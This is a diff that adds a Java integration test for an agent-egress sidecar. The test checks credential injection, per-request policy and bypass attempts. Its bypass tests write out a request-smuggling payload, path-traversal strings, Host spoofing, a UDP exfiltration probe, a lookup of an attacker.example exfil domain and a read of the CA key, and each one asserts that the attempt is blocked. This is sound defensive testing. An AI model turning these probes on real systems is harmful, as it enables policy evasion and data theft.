@@ -1,0 +1,558 @@
+package dev.capgate.sidecar.dataplane;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.capgate.sidecar.netns.Command;
+import dev.capgate.sidecar.netns.PodNetns;
+import dev.capgate.testkit.OpenBaoServer;
+import io.vertx.core.json.JsonArray;
+import io.vertx.core.json.JsonObject;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.security.SecureRandom;
+import java.util.HexFormat;
+import java.util.List;
+import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.MethodOrderer;
+import org.junit.jupiter.api.Order;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.TestMethodOrder;
+
+/**
+ * The data plane on real components: the init rules in a network namespace, the sidecar jar as
+ * uid 1337, HTTPS upstreams with their own CA, the real OpenBao behind a Vault KV credential, and
+ * agent programs (curl, python3) as uid 1000 that try the allowed route and every bypass.
+ */
+@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
+class DataPlaneIT {
+  private static final String SECRET = "ghp_" + HexFormat.of().formatHex(SecureRandom.getSeed(12));
+  private static final String USER = "alice@example.com";
+  private static PodNetns pod;
+  private static String ca;
+
+  @BeforeAll
+  static void startPod() {
+    OpenBaoServer bao = OpenBaoServer.shared();
+    String mount = bao.newKvMount();
+    bao.request("POST", mount + "/data/github/" + USER,
+        new JsonObject().put("data", new JsonObject().put("token", SECRET)).encode());
+    bao.request("POST", "sys/policies/acl/capgate-sidecar-" + mount, new JsonObject().put("policy",
+        "path \"" + mount + "/data/*\" { capabilities = [\"read\"] }").encode());
+    String token = new JsonObject(bao.request("POST", "auth/token/create", new JsonObject()
+            .put("policies", new JsonArray().add("capgate-sidecar-" + mount)).put("ttl", "1h").encode()))
+        .getJsonObject("auth").getString("client_token");
+
+    pod = PodNetns.create("DataPlaneIT");
+    assertThat(pod.runInit().requireSuccess().exitCode()).isZero();
+    pod.startUpstreams(bao.address());
+    pod.startSidecar(session(mount), token, List.of());
+    ca = pod.podCaCert().toString();
+  }
+
+  static String session(String mount) {
+    return """
+        apiVersion: capgate.dev/v1alpha1
+        kind: AgentSession
+        metadata: {name: fix-issue-42, namespace: agents}
+        spec:
+          user: %s
+          agent: coding-agent
+          vault: {role: capgate-agent}
+          credentials:
+            - name: github
+              vault: {path: "%s/data/github/{{user}}", field: token}
+              inject: {type: bearer}
+            - name: missing
+              vault: {path: "%s/data/nothing/here", field: token}
+              inject: {type: header, header: X-Api-Key}
+          egress:
+            - name: github-api
+              hosts: [api.github.test]
+              methods: [GET, HEAD, POST]
+              paths: ["/repos/acme/repo-a", "/repos/acme/repo-a/**"]
+              credential: github
+            - name: vaultless
+              hosts: [api.github.test]
+              paths: ["/vaultless/**"]
+              credential: missing
+            - name: packages
+              hosts: [pypi.test]
+              tls: passthrough
+            - name: plain-http
+              hosts: [plain.test]
+              ports: [80]
+              methods: [GET]
+              paths: ["/allowed/**"]
+            - name: raw-tcp
+              cidrs: [198.18.0.2/32]
+              ports: [9000]
+        """.formatted(USER, mount, mount);
+  }
+
+  @AfterAll
+  static void stopPod() {
+    if (pod != null) {
+      pod.close();
+    }
+  }
+
+  // ------------------------------------------------------------------ allowed traffic
+
+  @Test
+  @Order(1)
+  void allowed_route_reaches_the_upstream_with_the_injected_credential() {
+    Command.Result r = curl("https://api.github.test/repos/acme/repo-a/issues?state=open");
+    assertThat(status(r)).as(r.all()).isEqualTo(200);
+    JsonObject saw = lastUpstreamRequest("/repos/acme/repo-a/issues?state=open");
+    assertThat(headerValues(saw, "authorization")).containsExactly("Bearer " + SECRET);
+    assertThat(headerValues(saw, "host")).containsExactly("api.github.test");
+    // The echo carries the header back, but the agent reads it masked.
+    assertThat(r.stdout()).doesNotContain(SECRET).contains("Bearer ****");
+  }
+
+  @Test
+  @Order(2)
+  void the_agent_supplied_authorization_is_replaced_not_merged() {
+    Command.Result r = curl("-H", "Authorization: Bearer agent-made-this-up", "-H", "authorization: Basic Zm9vOmJhcg==",
+        "https://api.github.test/repos/acme/repo-a?replaced=1");
+    assertThat(status(r)).as(r.all()).isEqualTo(200);
+    JsonObject saw = lastUpstreamRequest("/repos/acme/repo-a?replaced=1");
+    assertThat(headerValues(saw, "authorization")).containsExactly("Bearer " + SECRET);
+  }
+
+  @Test
+  @Order(3)
+  void python_urllib_works_through_the_sidecar() {
+    Command.Result r = pod.asAgent("python3", "-c", """
+        import ssl, urllib.request
+        ctx = ssl.create_default_context(cafile='%s')
+        with urllib.request.urlopen('https://api.github.test/repos/acme/repo-a/pulls', context=ctx) as resp:
+            print(resp.status)
+        """.formatted(ca));
+    assertThat(r.stdout().strip()).as(r.all()).isEqualTo("200");
+  }
+
+  @Test
+  @Order(4)
+  void plaintext_http_is_checked_per_request_too() {
+    Command.Result ok = pod.asAgent("curl", "-s", "-w", "\n%{http_code}", "http://plain.test/allowed/x");
+    assertThat(status(ok)).as(ok.all()).isEqualTo(200);
+    Command.Result denied = pod.asAgent("curl", "-s", "-w", "\n%{http_code}", "http://plain.test/other");
+    assertThat(status(denied)).as(denied.all()).isEqualTo(403);
+    assertDenialJson(body(denied));
+  }
+
+  @Test
+  @Order(5)
+  void passthrough_splices_to_the_host_name_whatever_ip_the_agent_chose() {
+    // The agent dials a bogus address with an allowed SNI: the sidecar resolves pypi.test itself.
+    Command.Result r = pod.asAgent("curl", "-s", "-w", "\n%{http_code}", "--cacert", pod.upstreamCaCert().toString(),
+        "--resolve", "pypi.test:443:198.18.0.77", "https://pypi.test/simple/");
+    assertThat(status(r)).as(r.all()).isEqualTo(200);
+    assertThat(headerValues(lastUpstreamRequest("/simple/"), "authorization")).isEmpty();
+  }
+
+  @Test
+  @Order(6)
+  void a_java_http_client_speaks_h2_through_the_sidecar() throws Exception {
+    Path program = pod.dir().resolve("AgentClient.java");
+    Files.writeString(program, """
+        import java.io.FileInputStream;
+        import java.net.URI;
+        import java.net.http.*;
+        import java.security.KeyStore;
+        import java.security.cert.CertificateFactory;
+        import javax.net.ssl.*;
+        public class AgentClient {
+          public static void main(String[] args) throws Exception {
+            KeyStore trust = KeyStore.getInstance("PKCS12");
+            trust.load(null, null);
+            trust.setCertificateEntry("pod-ca", CertificateFactory.getInstance("X.509")
+                .generateCertificate(new FileInputStream(args[0])));
+            TrustManagerFactory tmf = TrustManagerFactory.getInstance(TrustManagerFactory.getDefaultAlgorithm());
+            tmf.init(trust);
+            SSLContext tls = SSLContext.getInstance("TLS");
+            tls.init(null, tmf.getTrustManagers(), null);
+            HttpClient client = HttpClient.newBuilder().sslContext(tls).version(HttpClient.Version.HTTP_2).build();
+            for (int i = 1; i < args.length; i++) {
+              HttpResponse<String> r = client.send(HttpRequest.newBuilder(URI.create(args[i])).build(),
+                  HttpResponse.BodyHandlers.ofString());
+              System.out.println(r.version() + " " + r.statusCode());
+            }
+          }
+        }
+        """);
+    Command.Result r = pod.asAgent(Path.of(System.getProperty("java.home"), "bin", "java").toString(),
+        "-XX:TieredStopAtLevel=1", program.toString(), ca,
+        "https://api.github.test/repos/acme/repo-a/java", "https://api.github.test/orgs/acme/java");
+    assertThat(r.stdout().lines().toList()).as(r.all()).containsExactly("HTTP_2 200", "HTTP_2 403");
+  }
+
+  @Test
+  @Order(7)
+  void request_bodies_stream_upstream_and_python_keep_alive_is_checked_per_request() {
+    Command.Result r = pod.asAgent("python3", "-c", """
+        import http.client, json, ssl
+        ctx = ssl.create_default_context(cafile='%s')
+        c = http.client.HTTPSConnection('api.github.test', context=ctx, timeout=60)
+        def body():
+            for _ in range(320):
+                yield b'x' * 65536
+        c.request('POST', '/repos/acme/repo-a/upload', body=body(), encode_chunked=True)
+        r = c.getresponse()
+        print(r.status, json.loads(r.read())['bodyLength'])
+        c.request('GET', '/repos/acme/not-this-one')
+        r = c.getresponse()
+        print(r.status, json.loads(r.read())['rule'])
+        """.formatted(ca));
+    assertThat(r.stdout().lines().toList()).as(r.all()).containsExactly("200 20971520", "403 None");
+  }
+
+  @Test
+  @Order(8)
+  void response_bodies_stream_back_with_back_pressure() {
+    Command.Result r = pod.asAgent("curl", "-s", "-m", "60", "--cacert", ca, "-o", "/dev/null",
+        "-w", "%{http_code} %{size_download}", "https://api.github.test/repos/acme/repo-a/download?bytes=100000000");
+    assertThat(r.stdout()).as(r.all()).isEqualTo("200 100000000");
+  }
+
+  @Test
+  @Order(9)
+  void raw_tcp_to_an_allowed_cidr_is_spliced() {
+    Command.Result r = pod.asAgent("python3", "-c", """
+        import socket
+        s = socket.create_connection(('198.18.0.2', 9000), timeout=5)
+        s.sendall(b'ping over raw tcp')
+        print(s.recv(100).decode())
+        """);
+    assertThat(r.stdout().strip()).as(r.all()).isEqualTo("ping over raw tcp");
+  }
+
+  @Test
+  @Order(10)
+  void head_expect_continue_and_h2_bodies_are_forwarded_faithfully() {
+    Command.Result head = curl("-I", "--http1.1", "https://api.github.test/repos/acme/repo-a/head");
+    assertThat(head.stdout()).as(head.all()).startsWith("HTTP/1.1 200");
+    assertThat(lastUpstreamRequest("/repos/acme/repo-a/head").getString("method")).isEqualTo("HEAD");
+
+    Command.Result expect = curl("--http1.1", "-H", "Expect: 100-continue", "--data-binary", "hello upstream",
+        "https://api.github.test/repos/acme/repo-a/expect");
+    assertThat(status(expect)).as(expect.all()).isEqualTo(200);
+    JsonObject sawExpect = lastUpstreamRequest("/repos/acme/repo-a/expect");
+    assertThat(sawExpect.getInteger("bodyLength")).isEqualTo(14);
+    assertThat(headerValues(sawExpect, "expect")).isEmpty();
+
+    Command.Result h2 = curl("--http2", "--data-binary", "body over h2", "https://api.github.test/repos/acme/repo-a/h2-post");
+    assertThat(status(h2)).as(h2.all()).isEqualTo(200);
+    assertThat(lastUpstreamRequest("/repos/acme/repo-a/h2-post").getInteger("bodyLength")).isEqualTo(12);
+  }
+
+  // ------------------------------------------------------------------ denials
+
+  @Test
+  @Order(11)
+  void a_disallowed_method_gets_a_json_403() {
+    Command.Result r = curl("-X", "DELETE", "https://api.github.test/repos/acme/repo-a");
+    assertThat(status(r)).as(r.all()).isEqualTo(403);
+    assertDenialJson(body(r));
+  }
+
+  @Test
+  @Order(12)
+  void a_disallowed_path_gets_a_json_403() {
+    Command.Result r = curl("https://api.github.test/repos/acme/secret-repo");
+    assertThat(status(r)).as(r.all()).isEqualTo(403);
+    JsonObject denial = assertDenialJson(body(r));
+    assertThat(denial.getString("path")).isEqualTo("/repos/acme/secret-repo");
+    assertThat(denial.getString("host")).isEqualTo("api.github.test");
+  }
+
+  @Test
+  @Order(12)
+  void a_disallowed_host_gets_a_tls_alert_or_a_json_403_in_plaintext() {
+    Command.Result tls = curl("https://evil.test/");
+    assertThat(tls.exitCode()).as(tls.all()).isEqualTo(35); // TLS handshake failed: alert access denied
+    Command.Result plain = pod.asAgent("curl", "-s", "-w", "\n%{http_code}", "http://evil.test/");
+    assertThat(status(plain)).as(plain.all()).isEqualTo(403);
+    assertDenialJson(body(plain));
+  }
+
+  @Test
+  @Order(13)
+  void the_second_keep_alive_request_is_checked_on_its_own() {
+    Command.Result r = pod.asAgent("curl", "-s", "--cacert", ca, "--http1.1",
+        "-w", "%{http_code} %{num_connects}\n", "-o", "/dev/null", "https://api.github.test/repos/acme/repo-a?ka=1",
+        "-o", "/dev/null", "https://api.github.test/repos/acme/other",
+        "-o", "/dev/null", "https://api.github.test/repos/acme/repo-a?ka=2");
+    assertThat(r.stdout().lines().toList()).as(r.all()).containsExactly("200 1", "403 0", "200 0");
+    // The sidecar kept its upstream connection alive across the agent's requests, too.
+    assertThat(lastUpstreamRequest("/repos/acme/repo-a?ka=2").getString("connection"))
+        .isEqualTo(lastUpstreamRequest("/repos/acme/repo-a?ka=1").getString("connection"));
+  }
+
+  @Test
+  @Order(14)
+  void an_http2_stream_to_a_disallowed_path_is_refused_alone() {
+    Command.Result r = pod.asAgent("curl", "-s", "--cacert", ca, "--http2", "-Z",
+        "-w", "%{http_version} %{http_code} %{url_effective}\n",
+        "-o", "/dev/null", "https://api.github.test/repos/acme/repo-a/h2",
+        "-o", "/dev/null", "https://api.github.test/admin/h2",
+        "-o", "/dev/null", "https://api.github.test/repos/acme/repo-a/h2-again");
+    assertThat(r.stdout().lines().sorted().toList()).as(r.all()).containsExactly(
+        "2 200 https://api.github.test/repos/acme/repo-a/h2",
+        "2 200 https://api.github.test/repos/acme/repo-a/h2-again",
+        "2 403 https://api.github.test/admin/h2");
+    assertThat(headerValues(lastUpstreamRequest("/repos/acme/repo-a/h2"), "authorization"))
+        .containsExactly("Bearer " + SECRET);
+  }
+
+  @Test
+  @Order(15)
+  void a_vault_failure_is_a_503_naming_the_credential() {
+    Command.Result r = curl("https://api.github.test/vaultless/x");
+    assertThat(status(r)).as(r.all()).isEqualTo(503);
+    assertThat(body(r)).contains("missing");
+  }
+
+  // ------------------------------------------------------------------ bypass attempts
+
+  @Test
+  @Order(20)
+  void a_direct_ip_connect_without_sni_fails() {
+    Command.Result tls = pod.asAgent("curl", "-s", "-k", "-m", "10", "https://198.18.0.2/");
+    assertThat(tls.exitCode()).as(tls.all()).isNotZero();
+    Command.Result plain = pod.asAgent("curl", "-s", "-w", "\n%{http_code}", "-m", "10", "http://198.18.0.2/");
+    assertThat(status(plain)).as(plain.all()).isEqualTo(403);
+  }
+
+  @Test
+  @Order(21)
+  void ipv6_goes_through_the_sidecar_too() {
+    Command.Result direct = pod.asAgent("curl", "-s", "-k", "-m", "10", "https://[fd00:198:18::2]/");
+    assertThat(direct.exitCode()).as(direct.all()).isNotZero();
+    // An allowed name over IPv6: intercepted like IPv4 (the pod CA's leaf, the credential injected).
+    Command.Result allowed = curl("--resolve", "api.github.test:443:[fd00:198:18::2]",
+        "https://api.github.test/repos/acme/repo-a?v6=1");
+    assertThat(status(allowed)).as(allowed.all()).isEqualTo(200);
+    assertThat(headerValues(lastUpstreamRequest("/repos/acme/repo-a?v6=1"), "authorization"))
+        .containsExactly("Bearer " + SECRET);
+  }
+
+  @Test
+  @Order(22)
+  void udp_other_than_dns_is_dropped() {
+    Command.Result r = pod.asAgent("python3", "-c", """
+        import socket
+        for family, host in ((socket.AF_INET, '198.18.0.2'), (socket.AF_INET6, 'fd00:198:18::2')):
+            s = socket.socket(family, socket.SOCK_DGRAM)
+            try:
+                s.sendto(b'exfiltrate', (host, 9999))
+                print('sent')
+            except PermissionError:
+                print('blocked')
+        """);
+    assertThat(r.stdout().lines().toList()).as(r.all()).containsExactly("blocked", "blocked");
+  }
+
+  @Test
+  @Order(23)
+  void another_port_on_an_allowed_host_is_refused() {
+    Command.Result r = curl("https://api.github.test:8443/repos/acme/repo-a");
+    assertThat(r.exitCode()).as(r.all()).isEqualTo(35);
+  }
+
+  @Test
+  @Order(24)
+  void dns_answers_allowed_names_only() {
+    String query = """
+        import socket, struct, sys
+        def ask(name):
+            q = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0)
+            q += b''.join(bytes([len(p)]) + p.encode() for p in name.split('.')) + b'\\0' + struct.pack('>HH', 1, 1)
+            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+            s.settimeout(5)
+            s.sendto(q, ('198.18.0.2', 53))
+            r = s.recv(512)
+            print(name, r[3] & 0x0f, struct.unpack('>H', r[6:8])[0])
+        def ask_tcp(name):
+            q = struct.pack('>HHHHHH', 0x4321, 0x0100, 1, 0, 0, 0)
+            q += b''.join(bytes([len(p)]) + p.encode() for p in name.split('.')) + b'\\0' + struct.pack('>HH', 1, 1)
+            s = socket.create_connection(('198.18.0.2', 53), timeout=5)
+            s.sendall(struct.pack('>H', len(q)) + q)
+            r = s.recv(2)
+            r = s.recv(struct.unpack('>H', r)[0])
+            print('tcp', name, r[3] & 0x0f, struct.unpack('>H', r[6:8])[0])
+        ask('evil.test')
+        ask('api.github.test')
+        ask('exfil-data.attacker.example')
+        ask_tcp('evil.test')
+        ask_tcp('api.github.test')
+        """;
+    Command.Result r = pod.asAgent("python3", "-c", query);
+    assertThat(r.stdout().lines().toList()).as(r.all()).containsExactly(
+        "evil.test 3 0", "api.github.test 0 1", "exfil-data.attacker.example 3 0",
+        "tcp evil.test 3 0", "tcp api.github.test 0 1");
+    assertThat(pod.log("upstream.log")).contains("\"dnsSaw\":\"api.github.test.\"")
+        .doesNotContain("evil.test.\"", "attacker");
+  }
+
+  @Test
+  @Order(25)
+  void a_host_header_that_differs_from_sni_is_rejected() {
+    Command.Result h1 = curl("--http1.1", "-H", "Host: evil.test", "https://api.github.test/repos/acme/repo-a");
+    assertThat(status(h1)).as(h1.all()).isEqualTo(400);
+    Command.Result h2 = curl("--http2", "-H", "Host: evil.test", "https://api.github.test/repos/acme/repo-a");
+    assertThat(status(h2)).as(h2.all()).isEqualTo(400);
+  }
+
+  @Test
+  @Order(26)
+  void dot_segments_are_normalized_before_policy() {
+    for (String path : List.of("/repos/acme/repo-a/../../other", "/repos/acme/repo-a/%2e%2e/%2e%2e/other",
+        "/repos/acme/repo-a/%2E%2E/secret", "/repos/acme/repo-a/..%2f..%2fother")) {
+      Command.Result r = curl("--path-as-is", "https://api.github.test" + path);
+      assertThat(status(r)).as(path + ": " + r.all()).isIn(400, 403);
+    }
+    assertThat(pod.log("upstream.log")).doesNotContain("/other", "secret\"");
+  }
+
+  @Test
+  @Order(27)
+  void content_length_with_transfer_encoding_is_rejected() {
+    Command.Result r = pod.asAgent("python3", "-c", """
+        import socket, ssl
+        ctx = ssl.create_default_context(cafile='%s')
+        s = ctx.wrap_socket(socket.create_connection(('api.github.test', 443)), server_hostname='api.github.test')
+        s.sendall(b'POST /repos/acme/repo-a HTTP/1.1\\r\\nHost: api.github.test\\r\\nContent-Length: 4\\r\\n'
+                  b'Transfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /repos/acme/smuggled HTTP/1.1\\r\\nHost: api.github.test\\r\\n\\r\\n')
+        data = b''
+        s.settimeout(5)
+        try:
+            while True:
+                chunk = s.recv(4096)
+                if not chunk:
+                    break
+                data += chunk
+        except socket.timeout:
+            pass
+        print(data.decode('latin-1').split('\\r\\n')[0])
+        print('responses', data.count(b'HTTP/1.1 '))
+        """.formatted(ca));
+    assertThat(r.stdout().lines().toList()).as(r.all()).containsExactly("HTTP/1.1 400 Bad Request", "responses 1");
+    assertThat(pod.log("upstream.log")).doesNotContain("smuggled");
+  }
+
+  @Test
+  @Order(28)
+  void the_leaf_validates_only_for_agents_that_trust_the_pod_ca() {
+    Command.Result untrusted = pod.asAgent("curl", "-s", "https://api.github.test/repos/acme/repo-a");
+    assertThat(untrusted.exitCode()).as(untrusted.all()).isEqualTo(60); // peer certificate cannot be authenticated
+    Command.Result trusted = curl("https://api.github.test/repos/acme/repo-a");
+    assertThat(status(trusted)).isEqualTo(200);
+  }
+
+  @Test
+  @Order(29)
+  void a_connection_straight_to_the_listener_is_closed_not_looped() {
+    Command.Result r = pod.asAgent("python3", "-c", """
+        import socket
+        for host in ('127.0.0.1', '198.18.0.1', '::1'):
+            s = socket.create_connection((host, 15001), timeout=5)
+            s.sendall(b'GET / HTTP/1.1\\r\\nHost: api.github.test\\r\\n\\r\\n')
+            try:
+                data = s.recv(100)
+                print(host, 'closed' if data == b'' else data)
+            except ConnectionResetError:
+                print(host, 'closed')
+        """);
+    assertThat(r.stdout().lines().toList()).as(r.all()).containsExactly("127.0.0.1 closed", "198.18.0.1 closed", "::1 closed");
+  }
+
+  // ------------------------------------------------------------------ no possession
+
+  @Test
+  @Order(90)
+  void the_agent_environment_holds_no_secret() {
+    Command.Result env = pod.asAgent("env");
+    assertThat(env.stdout()).doesNotContain(SECRET);
+    Command.Result key = pod.asAgent("cat", pod.dir().resolve("sidecar/ca.key").toString());
+    assertThat(key.exitCode()).as("the agent cannot read the CA key").isNotZero();
+  }
+
+  @Test
+  @Order(91)
+  void metrics_count_decisions_without_secret_material() {
+    Command.Result m = pod.inPod("curl", "-s", "http://127.0.0.1:15021/metrics");
+    assertThat(m.stdout()).contains("capgate_decisions_total{", "outcome=\"allow\"", "outcome=\"deny\"",
+        "capgate_cert_cache_misses_total", "capgate_request_duration_seconds_bucket").doesNotContain(SECRET);
+    // For the record: what minting cost in this run (the sidecar mints off its event loops).
+    m.stdout().lines().filter(l -> l.startsWith("capgate_leaf_mint_seconds_sum") || l.startsWith("capgate_leaf_mint_seconds_count")
+        || l.startsWith("capgate_cert_cache")).forEach(System.out::println);
+  }
+
+  @Test
+  @Order(99)
+  void no_log_line_of_the_run_contains_the_secret() throws Exception {
+    for (Path log : pod.logFiles()) {
+      if (log.getFileName().toString().equals("upstream.log")) {
+        continue; // the upstream is supposed to receive it
+      }
+      assertThat(Files.readString(log)).as(log.toString()).doesNotContain(SECRET);
+    }
+    String sidecarLog = pod.log("sidecar.log");
+    assertThat(sidecarLog).contains("\"decision\":\"allow\"", "\"credential\":\"github\"")
+        .doesNotContain("LEAK");
+    assertThat(sidecarLog.lines().filter(l -> !l.isBlank() && !l.startsWith("{")).toList())
+        .as("structured logs only").isEmpty();
+  }
+
+  // ------------------------------------------------------------------ helpers
+
+  private static Command.Result curl(String... args) {
+    List<String> command = new java.util.ArrayList<>(List.of("curl", "-s", "-m", "15", "--cacert", ca,
+        "-w", "\n%{http_code}"));
+    command.addAll(List.of(args));
+    return pod.asAgent(command.toArray(String[]::new));
+  }
+
+  private static int status(Command.Result r) {
+    List<String> lines = r.stdout().lines().toList();
+    return lines.isEmpty() ? -1 : Integer.parseInt(lines.getLast().strip());
+  }
+
+  private static String body(Command.Result r) {
+    String out = r.stdout();
+    int last = out.lastIndexOf('\n');
+    return last < 0 ? "" : out.substring(0, last);
+  }
+
+  private static JsonObject assertDenialJson(String body) {
+    JsonObject denial = new JsonObject(body);
+    assertThat(denial.getString("error")).isNotBlank();
+    assertThat(denial.getString("requestId")).isNotBlank();
+    assertThat(denial.containsKey("rule")).isTrue();
+    return denial;
+  }
+
+  /** The last request the upstream logged for {@code uri}. */
+  private static JsonObject lastUpstreamRequest(String uri) {
+    JsonObject found = null;
+    for (String line : pod.log("upstream.log").lines().toList()) {
+      if (line.startsWith("{\"upstreamSaw\"")) {
+        JsonObject saw = new JsonObject(line).getJsonObject("upstreamSaw");
+        if (uri.equals(saw.getString("uri"))) {
+          found = saw;
+        }
+      }
+    }
+    assertThat(found).as("the upstream saw " + uri + "\n" + pod.log("upstream.log")).isNotNull();
+    return found;
+  }
+
+  private static List<String> headerValues(JsonObject saw, String name) {
+    JsonArray headers = saw.getJsonArray("headers");
+    return headers.stream().map(JsonArray.class::cast).filter(h -> h.getString(0).equals(name))
+        .map(h -> h.getString(1)).toList();
+  }
+}
